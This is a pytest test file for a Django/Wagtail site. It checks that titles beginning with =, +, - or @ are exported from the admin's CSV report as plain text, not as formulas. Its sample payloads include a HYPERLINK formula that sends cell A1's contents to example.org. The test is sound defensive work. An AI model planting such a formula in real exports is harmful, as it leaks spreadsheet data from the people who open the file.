"""The admin's CSV exports write text that a spreadsheet would run as a formula
(starting with =, +, - or @) as plain text."""

import csv
import io

import pytest

from django.contrib.auth import get_user_model
from django.urls import reverse

from programme.pages import CompetenceGoalPage

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://example.org/?"&A1,"Klikk")', "+1+1", "-2+3", "@SUM(1,1)"]


@pytest.mark.parametrize("title", HOSTILE)
def test_a_formula_in_a_title_is_exported_as_text(client, title):
    goal = CompetenceGoalPage.objects.get(slug="politisk-ansvar", locale__language_code="nb")
    goal.title = title
    goal.save_revision().publish()
    client.force_login(get_user_model().objects.get(username="admin"))
    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{title}" in cells
    assert title not in cells
